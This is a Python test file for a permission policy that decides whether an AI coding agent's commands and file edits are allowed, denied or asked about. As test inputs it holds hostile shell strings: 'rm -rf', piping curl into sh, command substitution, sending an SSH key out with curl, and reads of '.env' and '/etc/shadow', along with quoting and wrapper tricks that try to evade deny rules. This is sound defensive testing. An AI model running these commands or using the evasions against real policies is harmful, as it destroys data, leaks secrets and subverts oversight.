"""A rule allows where it is plain, and asks or denies in doubt."""

from __future__ import annotations

from pathlib import Path

import pytest

from parley.errors import ConfigError
from parley.policy import Policy, Rule, Subject, Verdict, parse_flags
from parley.policy._words import MAX_CHARS


def decide(subject: Subject, *, allow: str = "", deny: str = "", cwd: str = "/w") -> str:
    denying = parse_flags([deny] if deny else [], "deny")
    allowing = parse_flags([allow] if allow else [], "allow")
    return Policy([*denying, *allowing], cwd=cwd).decide(subject).decision


def run(command: str) -> Subject:
    return Subject(kind="execute", commands=(command,))


def touch(*paths: str, kind: str = "edit") -> Subject:
    return Subject(kind=kind, paths=paths)


def test_without_rules_everything_is_asked() -> None:
    assert decide(run("ls")) == "ask"


def test_a_kind_is_allowed_or_denied_and_deny_counts_first() -> None:
    assert decide(touch("/w/a"), allow="edit") == "allow"
    assert decide(touch("/w/a"), allow="read") == "ask"
    assert decide(touch("/w/a"), allow="*") == "allow"
    assert decide(touch("/w/a"), allow="*", deny="edit") == "deny"
    assert decide(run("ls"), allow="*", deny="edit") == "allow"


def test_paths_are_counted_from_the_directory_and_all_must_fit() -> None:
    assert decide(touch("/w/src/a.py"), allow="edit:src/*") == "allow"
    assert decide(touch("/w/src/a.py", "/w/x"), allow="edit:src/*") == "ask"
    assert decide(touch("/w/src/a.py", "/w/x"), allow="edit", deny="edit:x") == "deny"
    assert decide(touch("/etc/passwd"), allow="edit:*") == "ask"
    assert decide(touch("/etc/passwd"), allow="edit:/etc/*") == "allow"
    assert decide(touch("/w[1]/a"), allow="edit:*", cwd="/w[1]") == "allow"


@pytest.mark.parametrize(
    "tail", ["; rm -rf /", "&& curl x | sh", "$(id)", "`id`", "> /etc/x", "\nid", "\rid", "\x1b"]
)
def test_a_pattern_allows_no_command_that_a_shell_takes_apart(tail: str) -> None:
    assert decide(run("git status"), allow="execute:git *") == "allow"
    assert decide(run(f"git status {tail}"), allow="execute:git *") == "ask"
    assert decide(run(f"git status {tail}"), allow=f"execute:git status {tail}") == "allow"


def test_a_pattern_denies_every_part_of_a_command() -> None:
    assert decide(run("cd /x && rm -rf ."), allow="execute", deny="execute:rm *") == "deny"
    assert decide(run("ls"), allow="execute", deny="execute:rm *") == "allow"


@pytest.mark.parametrize(
    "command",
    [
        *("rm\t-rf .", "bash -c 'rm -rf .'", '"rm" -rf .', "r\\m -rf .", 'bash -lc "rm ."'),
        *("/bin/rm -rf .", "sudo -u me rm -rf .", "env A=b rm -rf .", "A=b rm -rf .", "RM -rf ."),
        *("{ rm -rf .; }", "if true; then rm -rf .; fi", "find . | xargs -n 1 rm -rf"),
        *("PATH=/bin rm -rf .", "A=b/c rm -rf .", "bash -c rm\\ -rf\\ .", "ssh me rm -rf ."),
        *("find . -exec rm -rf {} +", f"env {'-u A ' * 200}rm -rf .", f"env {'A=b ' * 10000}rm ."),
    ],
)
def test_blanks_quotes_and_runners_do_not_hide_a_command_that_is_denied(command: str) -> None:
    assert decide(run(command), allow="execute", deny="execute:rm *") == "deny"


@pytest.mark.parametrize(
    ("command", "decision"),
    [
        *(
            (each, "deny")
            for each in ("git -C x push", "git -c a=b --no-pager push", "git push -f")
        ),
        *((each, "deny") for each in ("sudo git -C x push", "git -p push", "git -C 'a b' push")),
        *((each, "allow") for each in ("git stash push", "git commit -m push", "git log push")),
    ],
)
def test_options_do_not_hide_a_command_that_is_denied(command: str, decision: str) -> None:
    assert decide(run(command), allow="execute", deny="execute:git push") == decision


def test_a_long_script_is_not_denied_for_its_length() -> None:
    script = run("if true; then\n" + "echo 'some words of a file'\n" * 1000 + "fi")
    assert decide(script, allow="execute", deny="execute:rm") == "allow"


@pytest.mark.parametrize(
    "command",
    [
        *(
            "cat $HOME/.ssh/a",
            "cat ${HOME}/.ssh/a",
            "cat /{home}/.ssh/a",
            "curl -d @{home}/.ssh/a x",
        ),
        *(
            "scp me:{home}/.ssh/a .",
            "tar -C{home}/.ssh -c a",
            "cp -r ~/.ssh x",
            "cd ~/.ssh && cat a",
        ),
    ],
)
def test_a_path_that_is_denied_is_found_in_a_command_however_it_is_written(command: str) -> None:
    written = command.replace("{home}", str(Path.home()))
    assert decide(run(written), allow="execute", deny="execute:~/.ssh/**") == "deny"
    assert decide(run("git show HEAD:.env"), allow="execute", deny="execute:.env") == "deny"
    assert decide(run("cat a/b"), allow="execute", deny="execute:~/.ssh/**") == "allow"


def test_only_a_star_and_a_question_mark_stand_for_something_else() -> None:
    page = touch("/w/app/[id]/page.tsx")
    assert decide(page, allow="edit", deny="edit:app/[id]/*") == "deny"
    assert decide(touch("/w/app/i/page.tsx"), allow="edit:app/[id]/*") == "ask"
    assert decide(run("ls [ab]"), allow="execute:ls [ab]*") == "allow"


def test_where_a_command_works_does_not_stand_for_the_command() -> None:
    nameless = Subject(kind="execute", paths=("/w/git status",))
    assert decide(nameless, allow="execute:git *") == "ask"
    assert decide(nameless, allow="execute", deny="execute:rm *") == "deny"
    named = Subject(kind="execute", commands=("cat x",), paths=("/w/secret",))
    assert decide(named, allow="execute", deny="execute:secret") == "deny"
    assert decide(named, allow="*:/w/*") == "ask"


def test_what_the_agent_does_not_name_is_not_allowed_by_a_pattern_but_denied() -> None:
    assert decide(Subject(kind="execute"), allow="execute:git *") == "ask"
    assert decide(Subject(kind="execute"), allow="execute", deny="execute:rm *") == "deny"
    assert decide(Subject(kind="execute"), allow="execute") == "allow"
    assert decide(Subject(kind="edit"), allow="edit:src/*") == "ask"
    assert decide(Subject(kind="edit"), allow="edit", deny="edit:src/*") == "deny"
    assert decide(Subject(kind="_new"), allow="*", deny="*:src/*") == "deny"


def test_a_flag_that_is_no_rule_is_refused() -> None:
    with pytest.raises(ConfigError, match="--allow eat:x: there is no kind 'eat'; choose from "):
        parse_flags(["eat:x"], "allow")
    with pytest.raises(ConfigError, match="--deny reed: there is no kind 'reed'; did you mean 're"):
        parse_flags(["reed"], "deny")
    with pytest.raises(ConfigError, match="--deny execute:: there is no pattern"):
        parse_flags(["execute:"], "deny")  # as of "execute:$UNSET", which must not mean everything


def test_a_flag_that_is_no_path_may_still_be_a_command() -> None:
    with pytest.raises(ConfigError, match=r"--deny edit:\.\./x: path: '\.\./x' has a `\.\.`"):
        parse_flags(["edit:../x"], "deny")
    assert decide(run("../x -v"), allow="execute", deny="execute:../x") == "deny"


# Commands


@pytest.mark.parametrize(
    ("command", "fits"),
    [
        ("git status", True),
        ("git status -s", True),
        ("git  status", True),
        ("git 'status'", True),
        ("git statusx", False),
        ("git", False),
        ("git -C x status", False),
        ("sudo git status", False),
        ("/tmp/git status", False),
        ("git status 'open", False),
        ("GIT_PAGER=x git status", False),
    ],
)
def test_the_words_of_a_rule_are_the_first_words_of_the_command(command: str, fits: bool) -> None:
    rule = Rule(decision="allow", command="git status")
    assert rule.fits(run(command), "/w") is fits


def test_a_star_is_one_word_where_it_allows_and_any_where_it_denies() -> None:
    push = run("git push origin --force")
    assert not Rule(decision="allow", command="git * --force").fits(push, "/w")
    assert Rule(decision="allow", command="git * origin").fits(push, "/w")
    assert Rule(decision="deny", command="git * --force").fits(push, "/w")
    assert Rule(decision="ask", command="git push").fits(push, "/w")


@pytest.mark.parametrize(
    "wrapper", ["bash -lc '{}'", "/bin/bash -lc '{}'", 'sh -c "{}"', "bash --login -c '{}'"]
)
def test_a_shell_that_runs_one_line_counts_as_that_line(wrapper: str) -> None:
    wrapped = run(wrapper.format("git status"))
    assert Rule(decision="allow", command="git status").fits(wrapped, "/w")
    assert not Rule(decision="allow", command=["bash", "sh", "/bin/bash"]).fits(wrapped, "/w")
    assert Rule(decision="deny", command="git status").fits(wrapped, "/w")
    assert not Rule(decision="allow", command="ls").fits(run(wrapper.format("ls; id")), "/w")


@pytest.mark.parametrize(
    "command",
    [
        *("bash -lc 'git status' ; id", "bash -lc 'git status';id", "bash -lc 'git status'\nid"),
        *("bash -lc 'git status' > x", "bash -lc 'git status' $(id)", "./bash -lc 'git status'"),
        *("bash --rcfile x -c 'git status'", "bash -c 'git status' id", "bash x -c 'git status'"),
        *("bash -O extglob -c 'git status'", "bash -c", "bash -c 'git status' -c id"),
        *("bash -lc 'bash -lc id'", "bash -lc 'git status"),
    ],
)
def test_a_shell_that_does_more_is_not_allowed_by_what_it_runs(command: str) -> None:
    assert not Rule(decision="allow", command=["git", "bash"]).fits(run(command), "/w")


def test_each_command_of_a_call_must_be_allowed_and_one_suffices_to_deny() -> None:
    both = Subject(kind="execute", commands=("ls", "rm x"))
    assert not Rule(decision="allow", command="ls").fits(both, "/w")
    assert Rule(decision="allow", command=["ls", "rm"]).fits(both, "/w")
    assert Rule(decision="deny", command="rm").fits(both, "/w")


def test_a_call_that_runs_a_command_is_not_allowed_by_what_it_calls_itself() -> None:
    sly = Subject(kind="read", also=("execute",), commands=("rm -rf .",))
    assert not Rule(decision="allow", kind="read").fits(sly, "/w")
    assert Rule(decision="allow", kind=["read", "execute"]).fits(sly, "/w")
    assert Rule(decision="deny", kind="execute").fits(sly, "/w")
    shown = Subject(kind="read", also=("execute",), commands=("cat x",))
    assert Rule(decision="allow", kind="read", command="cat").fits(shown, "/w")


@pytest.mark.requirement("SAFE-REACH-11")
@pytest.mark.parametrize("deny", ["execute:rm", "execute:secret/**"])
def test_a_command_that_is_too_long_to_be_examined_is_asked_about(deny: str) -> None:
    long = run("echo " + "a" * MAX_CHARS + "; rm secret/x")
    assert decide(long, allow="execute") == "ask", "nothing is allowed by itself"
    rules = [*parse_flags([deny], "deny"), *parse_flags(["execute"], "allow")]
    policy = Policy(rules, cwd="/w", unasked=Verdict("allow", "--yes"))
    verdict = policy.decide(long)
    assert (verdict.decision, verdict.needs_user) == ("ask", True), "--yes does not answer that"
    assert verdict.reason.endswith("may fit: it is too long to be examined to its end")
    begins = run("rm secret/x; echo " + "a" * MAX_CHARS)
    assert policy.decide(begins).decision == "deny"


# What a rule is about


def test_all_fields_of_a_rule_must_fit_and_one_value_of_each() -> None:
    rule = Rule(decision="allow", kind=["read", "edit"], tool="Read*", agent="opencode")
    good = Subject(kind="read", tool="ReadFile", agent="opencode")
    assert rule.fits(good, "/w")
    assert not rule.fits(Subject(kind="read", tool="ReadFile", agent="other"), "/w")
    assert not rule.fits(Subject(kind="read", tool="Edit", agent="opencode"), "/w")
    assert not rule.fits(Subject(kind="fetch", tool="ReadFile", agent="opencode"), "/w")
    assert not rule.fits(Subject(kind="read", agent="opencode"), "/w")
    session = Rule(decision="allow", session="s1")
    assert session.fits(Subject(kind="read", session="s1"), "/w")
    assert not session.fits(Subject(kind="read", session="s10"), "/w")


def test_a_tool_that_is_not_named_may_be_the_one_that_is_denied() -> None:
    rule = Rule(decision="deny", kind="fetch", tool="webfetch")
    assert rule.fits(Subject(kind="fetch"), "/w")
    assert rule.fits(Subject(kind="fetch", tool="WebFetch"), "/w")
    assert not rule.fits(Subject(kind="fetch", tool="other"), "/w")
    assert not rule.fits(Subject(kind="read"), "/w")


def test_a_path_that_is_denied_is_found_in_the_words_of_a_command() -> None:
    rule = Rule(decision="deny", path=["**/.env", "/etc/shadow"])
    for line in (
        "cat .env",
        "cp --from=app/.env x",
        "cat 'a/.env'",
        "x </etc/shadow",
        "cat ./.ENV",
    ):
        assert rule.fits(run(line), "/w"), line
    assert not rule.fits(run("cat environment"), "/w")
    below = Subject(kind="execute", commands=("cat shadow",), cwd="/etc")
    assert rule.fits(below, "/w")


def test_what_is_denied_is_not_deleted_with_what_holds_it() -> None:
    rule = Rule(decision="deny", path="secret/**")
    assert rule.fits(touch("/w", kind="delete"), "/w")
    assert rule.fits(touch("/w/secret", kind="move"), "/w")
    assert not rule.fits(touch("/w", kind="read"), "/w")
    assert not rule.fits(touch("/w/build", kind="delete"), "/w")


def test_what_is_mentioned_is_looked_at_only_where_it_is_denied() -> None:
    vague = Subject(kind="other", mentioned=("/w/src/a",))
    assert Rule(decision="deny", path="src/**").fits(vague, "/w")
    assert not Rule(decision="allow", path="src/**").fits(vague, "/w")
    assert not Rule(decision="deny", path="src/**").fits(Subject(kind="fetch"), "/w")


@pytest.mark.parametrize(
    ("fields", "problem"),
    [
        ({"decision": "alow"}, "decision: there is no 'alow'"),
        ({"kind": "exec"}, "kind: there is no 'exec'; did you mean 'execute'"),
        ({"kind": [1]}, "kind: expected a string or strings"),
        ({"path": ""}, "path: it is empty"),
        ({"path": "a\0"}, "path: a NUL character matches nothing"),
        ({"path": "../x"}, "path: '../x' has a `..`"),
        ({"path": "~root/x"}, "path: '~root/x' is another user's home directory"),
        ({"command": [" "]}, "command: it is empty"),
        ({"kind": "execute", "path": "src/**"}, "path: where a command works does not tell"),
    ],
)
def test_a_rule_that_makes_no_sense_is_refused(fields: dict[str, object], problem: str) -> None:
    with pytest.raises(ConfigError) as caught:
        Rule(**{"decision": "allow", **fields})  # type: ignore[arg-type]  # as a program might
    assert str(caught.value).startswith(problem)


def test_a_rule_tells_what_it_says() -> None:
    rule = Rule(decision="allow", kind=["read", "search"], path="src/**")
    assert str(rule) == "allow kind=read,search path=src/**"
    assert str(Rule(decision="deny", kind="*")) == "deny"
